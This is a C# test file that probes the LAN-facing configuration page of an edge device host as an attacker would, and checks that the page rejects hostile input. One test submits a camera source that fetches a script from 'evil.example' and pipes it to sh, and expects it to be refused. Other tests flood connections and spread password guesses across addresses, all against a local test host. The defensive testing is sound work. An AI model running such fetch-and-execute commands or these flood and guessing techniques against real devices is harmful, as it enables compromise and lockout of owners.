using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Pinhole.EdgeHost.Configuration;
using Pinhole.EdgeHost.Tests.Support;
using Pinhole.EdgeHost.Web;
using Pinhole.Transport.Security;
using Pinhole.Testing;

namespace Pinhole.EdgeHost.Tests.Web;

/// <summary>
/// The local page's trust boundary and its limits, with the tester as the attacker: someone on the LAN who
/// has (or guesses at) the page password must not get the device token, run commands, read camera
/// passwords, loosen edge.json's permissions, or lock the owner out.
/// </summary>
public partial class EdgePageAttackTests
{
    [GeneratedRegex("<meta name=\"csrf-token\" content=\"([^\"]+)\">")]
    private static partial Regex CsrfMeta();

    private static HttpClient ClientFrom(Uri baseAddress, string address) =>
        new(LoopbackClient.Handler(address)) { BaseAddress = baseAddress, Timeout = TimeSpan.FromSeconds(20) };

    private static async Task<string> LogInAsync(HttpClient client)
    {
        using var login = await client.PostAsync("/login", new FormUrlEncodedContent([new("password", TempConfigDir.Password)]));
        Assert.Equal(HttpStatusCode.Redirect, login.StatusCode);
        return CsrfMeta().Match(await client.GetStringAsync("/")).Groups[1].Value;
    }

    private static async Task<(HttpStatusCode Status, string Body)> PostConfigAsync(HttpClient client, string csrf, byte[] body)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/config") { Content = new ByteArrayContent(body) };
        request.Content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
        request.Headers.Add("X-CSRF-Token", csrf);
        using var response = await client.SendAsync(request);
        return (response.StatusCode, await response.Content.ReadAsStringAsync());
    }

    private static Task<(HttpStatusCode Status, string Body)> PostConfigAsync(HttpClient client, string csrf, string json) =>
        PostConfigAsync(client, csrf, Encoding.UTF8.GetBytes(json));

    [Fact]
    public async Task The_page_cannot_send_the_device_token_to_a_plaintext_relay_or_run_a_command()
    {
        await using var host = await EdgeTestHost.StartAsync();
        using var client = host.CreateClient();
        var csrf = await LogInAsync(client);
        var before = await File.ReadAllTextAsync(host.ConfigPath);

        var (status, body) = await PostConfigAsync(client, csrf, """{ "relays": [ "ws://192.168.1.66:8080/uplink" ] }""");
        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Contains("must be wss://", body, StringComparison.Ordinal);

        (status, body) = await PostConfigAsync(client, csrf, """
            { "cameras": [ { "name": "door", "source": "rtsp://user:pass@192.168.1.64:554/stream1" },
                           { "name": "pi", "source": "exec:sh -c 'curl evil.example | sh'" } ] }
            """);
        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Contains("allowExec", body, StringComparison.Ordinal);
        Assert.Equal(before, await File.ReadAllTextAsync(host.ConfigPath));

        // A wss:// relay, and the exec: camera the file already has, are fine.
        (status, body) = await PostConfigAsync(client, csrf, """
            { "relays": [ "wss://relay3.example.com/uplink" ],
              "cameras": [ { "name": "door", "source": "rtsp://user:pass@192.168.1.64:554/stream1" },
                           { "name": "pi", "source": "exec:rpicam-vid -t 0 --inline --codec h264 -o -" } ] }
            """);
        Assert.True(status == HttpStatusCode.OK, body);
    }

    [Fact]
    public async Task With_allowExec_the_page_may_set_exec_sources()
    {
        await using var host = await EdgeTestHost.StartAsync(TempConfigDir.Sample().Replace(
            "\"web\": {", "\"web\": { \"allowExec\": true,", StringComparison.Ordinal));
        using var client = host.CreateClient();
        var csrf = await LogInAsync(client);
        var (status, body) = await PostConfigAsync(client, csrf, """{ "cameras": [ { "name": "usb", "source": "exec:ffmpeg -f v4l2 -i /dev/video0 -f h264 -" } ] }""");
        Assert.True(status == HttpStatusCode.OK, body);
    }

    [Fact]
    public async Task Camera_passwords_never_reach_the_browser_and_survive_a_save()
    {
        await using var host = await EdgeTestHost.StartAsync();
        using var client = host.CreateClient();
        var csrf = await LogInAsync(client);
        var text = await client.GetStringAsync("/api/config");
        Assert.DoesNotContain("user:pass@", text, StringComparison.Ordinal);
        var sections = JsonNode.Parse(text)!.AsObject();
        Assert.Equal("rtsp://user:********@192.168.1.64:554/stream1", sections["cameras"]![0]!["source"]!.GetValue<string>());

        sections["sensors"]![0]!["interval"] = "7s";
        var (status, body) = await PostConfigAsync(client, csrf, sections.ToJsonString());
        Assert.True(status == HttpStatusCode.OK, body);
        var saved = EdgeConfigLoader.LoadFile(host.ConfigPath).Config!;
        Assert.Equal("rtsp://user:pass@192.168.1.64:554/stream1", saved.Cameras[0].Source);

        // The placeholder cannot carry a stored password to another host.
        (status, body) = await PostConfigAsync(client, csrf, """{ "cameras": [ { "name": "door", "source": "rtsp://user:********@192.168.1.99/x" } ] }""");
        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Contains("type the password", body, StringComparison.Ordinal);
    }

    [Fact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public async Task A_save_keeps_the_file_mode()
    {
        await using var host = await EdgeTestHost.StartAsync();
        File.SetUnixFileMode(host.ConfigPath, UnixFileMode.UserRead | UnixFileMode.UserWrite);
        using var client = host.CreateClient();
        var csrf = await LogInAsync(client);
        var (status, body) = await PostConfigAsync(client, csrf, """{ "relays": [ "wss://relay9.example.com/uplink" ] }""");
        Assert.True(status == HttpStatusCode.OK, body);
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(host.ConfigPath));
    }

    [Pinhole.Testing.RequiresRootFact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public async Task A_save_keeps_the_file_owner()
    {
        // On a device edge.json belongs to the service's user; a save by the page (written as a new
        // file, then renamed over the old one) must not hand it to whoever runs the process.
        await using var host = await EdgeTestHost.StartAsync();
        const string nobody = "65534:65534";
        Assert.True((await Pinhole.Testing.Command.RunAsync("chown", [nobody, host.ConfigPath], TimeSpan.FromSeconds(10))).Succeeded);
        using var client = host.CreateClient();
        var csrf = await LogInAsync(client);
        var (status, body) = await PostConfigAsync(client, csrf, """{ "relays": [ "wss://relay9.example.com/uplink" ] }""");
        Assert.True(status == HttpStatusCode.OK, body);
        Assert.Contains("relay9.example.com", await File.ReadAllTextAsync(host.ConfigPath), StringComparison.Ordinal);
        var owner = await Pinhole.Testing.Command.RunAsync("stat", ["-c", "%u:%g", host.ConfigPath], TimeSpan.FromSeconds(10));
        Assert.Equal(nobody, owner.StandardOutput.Trim());
    }

    [Theory]
    [InlineData("duplicate keys", "invalid JSON")]
    [InlineData("invalid UTF-8", "not valid UTF-8")]
    [InlineData("deep nesting", "invalid JSON")]
    public async Task Every_bad_body_is_a_400_with_a_reason(string what, string message)
    {
        await using var host = await EdgeTestHost.StartAsync();
        using var client = host.CreateClient();
        var csrf = await LogInAsync(client);
        var body = what switch
        {
            "duplicate keys" => Encoding.UTF8.GetBytes("""{ "relays": [ "wss://a.example/uplink" ], "relays": [ "ws://b.example/uplink" ] }"""),
            "invalid UTF-8" => [.. Encoding.UTF8.GetBytes("{ \"relays\": [ \"wss://"), 0xFF, 0xFE, .. Encoding.UTF8.GetBytes("\" ] }")],
            _ => Encoding.UTF8.GetBytes(new string('[', 100) + new string(']', 100)),
        };
        var (status, text) = await PostConfigAsync(client, csrf, body);
        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Contains(message, text, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync("/healthz")).StatusCode);
    }

    [Fact]
    public async Task One_address_cannot_take_every_connection_and_idle_visitors_get_no_keep_alive()
    {
        await using var host = await EdgeTestHost.StartAsync();
        var port = host.BaseAddress.Port;
        var flood = new List<TcpClient>();
        try
        {
            for (var i = 0; i < 64; i++)
            {
                var tcp = new TcpClient(AddressFamily.InterNetwork);
                tcp.Client.Bind(new IPEndPoint(IPAddress.Parse("127.0.0.2"), 0));
                try { await tcp.ConnectAsync(IPAddress.Loopback, port); }
                catch (SocketException) { }
                flood.Add(tcp);
            }
            // The owner, elsewhere on the LAN, still logs in (before: 64 idle connections held every slot for 130 s).
            using var owner = ClientFrom(host.BaseAddress, "127.0.0.3");
            Assert.False(string.IsNullOrEmpty(await LogInAsync(owner)));

            var held = 0;
            foreach (var tcp in flood)
            {
                if (!tcp.Connected) continue;
                tcp.Client.ReceiveTimeout = 200;
                try
                {
                    var n = tcp.Client.Receive(new byte[1]);
                    if (n > 0) held++;
                }
                catch (SocketException e) when (e.SocketErrorCode == SocketError.TimedOut || e.SocketErrorCode == SocketError.WouldBlock)
                {
                    held++; // still open, nothing to read
                }
                catch (SocketException)
                {
                }
            }
            Assert.Equal(new EdgeHostOptions { ConfigPath = "", Config = new EdgeConfig() }.WebConnectionsPerAddress, held);
        }
        finally
        {
            foreach (var tcp in flood) tcp.Dispose();
        }

        using var visitor = host.CreateClient();
        using var page = await visitor.GetAsync("/");
        Assert.True(page.Headers.ConnectionClose, "a request without a session is answered with Connection: close");
    }

    [Fact]
    public async Task Guesses_spread_over_addresses_are_slowed_but_an_address_that_logged_in_before_is_not_held()
    {
        var throttle = new LoginThrottleOptions { FreeFailures = 2, FreeFailuresPerAccount = 9, FirstLockout = TimeSpan.FromMinutes(1) };
        await using var host = await EdgeTestHost.StartAsync(throttle: throttle);
        using (var owner = ClientFrom(host.BaseAddress, "127.0.0.3")) await LogInAsync(owner);

        var statuses = new List<HttpStatusCode>();
        for (var a = 10; a < 30; a++)
        {
            // One guess per address: the per-address throttle alone never fires.
            using var attacker = ClientFrom(host.BaseAddress, $"127.0.0.{a}");
            using var r = await attacker.PostAsync("/login", new FormUrlEncodedContent([new("password", "guess" + a)]));
            statuses.Add(r.StatusCode);
        }
        // Before: all 20 were checked. Now ten are, then the account is locked for addresses it never logged in from.
        Assert.Equal(10, statuses.Count(s => s == HttpStatusCode.Unauthorized));
        Assert.Equal(10, statuses.Count(s => s == HttpStatusCode.TooManyRequests));
        using (var stranger = ClientFrom(host.BaseAddress, "127.0.0.40"))
        using (var r = await stranger.PostAsync("/login", new FormUrlEncodedContent([new("password", TempConfigDir.Password)])))
            Assert.Equal(HttpStatusCode.TooManyRequests, r.StatusCode);
        using (var owner = ClientFrom(host.BaseAddress, "127.0.0.3"))
            Assert.False(string.IsNullOrEmpty(await LogInAsync(owner)));
    }
}
